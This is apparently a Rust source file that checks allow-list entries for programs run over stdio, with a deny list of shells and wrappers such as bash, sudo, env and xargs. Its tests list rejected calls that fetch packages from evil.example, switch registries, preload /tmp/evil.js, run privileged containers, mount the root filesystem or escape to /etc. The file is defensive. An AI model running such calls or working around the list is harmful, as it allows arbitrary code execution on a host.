//! A program of `[stdio] allow`: its whole path, and the arguments with which it may be called.

use std::fmt;
use std::path::Path;

use serde::{Deserialize, Serialize};

use super::command::{is_plain, wrong};
use super::pattern::{Alphabet, fits};
use super::runner::{Package, Unnamed, package};
use crate::error::Error;

/// A program, and how it may be called.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "Entry", into = "Entry")]
pub struct Program {
    command: String,
    /// One pattern for each argument.
    args: Vec<String>,
    /// Any further arguments may follow.
    is_open: bool,
    /// The package that it runs, if it runs packages.
    package: Option<Package>,
}

/// As it is written.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Entry {
    command: String,
    /// One pattern for each argument, in which `*` stands for a part of a name; `**` at the end for any further arguments.
    #[serde(default)]
    args: Vec<String>,
}

/// Programs that run whatever their arguments say, so that listing one lists all.
const SHELLS: [&str; 19] = [
    "ash",
    "bash",
    "busybox",
    "cmd.exe",
    "csh",
    "dash",
    "doas",
    "env",
    "fish",
    "ksh",
    "nsenter",
    "powershell.exe",
    "pwsh",
    "sh",
    "sudo",
    "tcsh",
    "unshare",
    "xargs",
    "zsh",
];

impl Program {
    pub(super) fn is(&self, command: &str) -> bool {
        self.command == command
    }

    /// Whether it may be called with these arguments.
    pub(super) fn takes(&self, args: &[String]) -> bool {
        let counted = args.len() == self.args.len() || (self.is_open && args.len() > self.args.len());
        let alphabet = |at| self.package.map_or(Alphabet::Text, |package| package.alphabet(at));
        let mut pairs = self.args.iter().zip(args).enumerate();
        counted
            && pairs.all(|(at, (pattern, arg))| fits(pattern, arg, alphabet(at)))
            && self.package.is_none_or(|package| package.takes(&self.args, args))
    }
}

impl TryFrom<Entry> for Program {
    type Error = Error;

    fn try_from(Entry { command, mut args }: Entry) -> Result<Self, Error> {
        let path = Path::new(&command);
        if !path.is_absolute() || !is_plain(path) {
            return Err(wrong("`command` is the whole path of a program, without `..`", &command));
        }
        let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
        if SHELLS.contains(&name) {
            let message = "this program runs whatever its arguments say; list what it is to run instead";
            return Err(wrong(message, &command));
        }
        let is_open = args.pop_if(|last| last == "**").is_some();
        let unnamed = |_: Unnamed| {
            let message = "this program fetches a package and runs it, so `args` must name the package, or the beginning of its \
                           name, in front of any `**`: `[\"-y\", \"@acme/*\"]`";
            wrong(message, &command)
        };
        let package = package(name, &args).map_err(unnamed)?;
        Ok(Self { command, args, is_open, package })
    }
}

impl From<Program> for Entry {
    fn from(Program { command, mut args, is_open, .. }: Program) -> Self {
        args.extend(is_open.then(|| "**".to_owned()));
        Self { command, args }
    }
}

impl fmt::Display for Program {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.command)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(command: &str, args: &[&str]) -> Result<Program, Error> {
        let args = args.iter().map(|arg| (*arg).to_owned()).collect();
        Entry { command: format!("/usr/bin/{command}"), args }.try_into()
    }

    fn takes(program: &Program, args: &[&str]) -> bool {
        program.takes(&args.iter().map(|arg| (*arg).to_owned()).collect::<Vec<_>>())
    }

    type Case = (
        &'static str,
        &'static [&'static str],
        &'static [&'static [&'static str]],
        &'static [&'static [&'static str]],
    );

    /// An entry, the calls that it allows, and the calls that it does not.
    const CASES: &[Case] = &[
        (
            "npx",
            &["-y", "@acme/*"],
            &[&["-y", "@acme/x"], &["-y", "@acme/x.y-z_1"]],
            &[
                &["-y", "@acme/x@file:/tmp/evil"],
                &["-y", "@acme/x@npm:evil@1.0.0"],
                &["-y", "@acme/x@https://evil.example/x.tgz"],
                &["-y", "@acme/x@github:evil/x"],
                &["-y", "@acme/x@1.0.0"],
                &["-y", "@acme/../evil"],
                &["-y", "@acme/.."],
                &["-y", "@acme/x/y"],
                &["-y", "@acme/x.tgz"],
                &["-y", "@acme/"],
                &["-y", "@acme/x", "--registry=https://evil.example"],
                &["--registry=https://evil.example", "@acme/x"],
                &["-y", "@acme/x y"],
                &["-c", "@acme/x"],
            ],
        ),
        (
            "npx",
            &["-y", "@acme/*", "**"],
            &[&["-y", "@acme/x"], &["-y", "@acme/x", "-p", "80", "--root=/a b"]],
            &[
                &["-y", "@acme/x", "--registry", "https://evil.example"],
                &["-y", "@acme/x", "--node-options=--require=/tmp/evil.js"],
                &["-y", "@acme/x", "--package=evil"],
            ],
        ),
        (
            "npx",
            &["--registry=https://own.example", "@acme/*@1.*"],
            &[&["--registry=https://own.example", "@acme/x@1.2"]],
            &[&["--registry=https://evil.example", "@acme/x@1.2"]],
        ),
        (
            "npm",
            &["exec", "@acme/*", "**"],
            &[&["exec", "@acme/x", "--", "--port=1"], &["exec", "@acme/x", "serve"]],
            &[
                &["exec", "@acme/x", "--port=1"],
                &["exec", "@acme/x", "--call=id"],
                &["exec", "@acme/x", "-c", "id"],
            ],
        ),
        (
            "uvx",
            &["acme-*"],
            &[&["acme-x"]],
            &[
                &["acme-x@git+https://evil.example/x"],
                &["acme-x==1.0"],
                &["acme-x[evil]"],
                &["acme-x.whl"],
                &["acme-x.zip"],
                &["--from", "acme-x"],
            ],
        ),
        (
            "uvx",
            &["--from", "acme-*", "acme-server", "**"],
            &[&["--from", "acme-x", "acme-server"]],
            &[
                &["--from", "acme-x @ https://evil.example", "acme-server"],
                &["--from", "acme-x", "acme-server", "--with", "evil"],
                &["--with", "acme-x", "acme-server"],
            ],
        ),
        (
            "pipx",
            &["run", "acme-*"],
            &[&["run", "acme-x"]],
            &[&["run", "https://evil.example/acme-x.py"], &["run", "acme-x.py"]],
        ),
        (
            "docker",
            &["run", "-i", "--rm", "acme/*:1.*"],
            &[&["run", "-i", "--rm", "acme/x:1.2"]],
            &[
                &["run", "-i", "--rm", "acme/x@sha256:00"],
                &["run", "-i", "--privileged", "acme/x:1.2"],
                &["run", "-i", "--rm", "evil.example/acme/x:1.2"],
            ],
        ),
        (
            "podman",
            &["run", "*/server"],
            &[&["run", "acme/server"]],
            &[&["run", "evil.example/server"], &["run", "localhost/server"], &["run", "-v=/:/x"]],
        ),
        (
            "deno",
            &["run", "-A", "npm:@acme/*"],
            &[&["run", "-A", "npm:@acme/x"]],
            &[&["run", "-A", "https://evil.example/x.ts"], &["run", "-A", "npm:@acme/x@npm:evil"]],
        ),
        ("bunx", &["acme-*"], &[&["acme-x"]], &[&["acme-x@latest"], &["--bun"]]),
        (
            "files",
            &["--root=/srv/*"],
            &[&["--root=/srv/a"]],
            &[&["--root=/srv/../etc"], &["--root=/srv/a/../../etc"]],
        ),
    ];

    /// X-02: an entry for a program that runs packages names packages, and `*` does not lead out of a name.
    #[test]
    fn an_entry_takes_the_packages_that_it_names_and_no_others() {
        for (command, patterns, good, bad) in CASES {
            let program = read(command, patterns).unwrap();
            for args in *good {
                assert!(takes(&program, args), "{command} {patterns:?} takes {args:?}");
            }
            for args in *bad {
                assert!(!takes(&program, args), "{command} {patterns:?} does not take {args:?}");
            }
        }
    }

    /// X-02: an entry that would let any package run is refused when it is read.
    #[test]
    fn an_entry_that_names_no_package_is_refused() {
        for (command, args) in [
            ("npx", &[][..]),
            ("npx", &["**"]),
            ("npx", &["-y", "**"]),
            ("npx", &["-y", "*"]),
            ("npm", &["exec", "**"]),
            ("npm", &["**"]),
            ("pnpm", &["dlx", "**"]),
            ("yarn", &["dlx", "*"]),
            ("uvx", &["--from", "*", "**"]),
            ("uv", &["tool", "run", "**"]),
            ("pipx", &["run", "*"]),
            ("docker", &["run", "-i", "**"]),
            ("deno", &["run", "-A", "**"]),
        ] {
            let error = read(command, args).unwrap_err().to_string();
            assert!(error.contains("must name the package"), "{command} {args:?}: {error}");
        }
    }

    #[test]
    fn an_entry_is_written_as_it_was_read() {
        let text = r#"{"command":"/usr/bin/npx","args":["-y","@acme/*","**"]}"#;
        let program: Program = serde_json::from_str(text).unwrap();
        assert_eq!(serde_json::to_string(&program).unwrap(), text);
    }
}
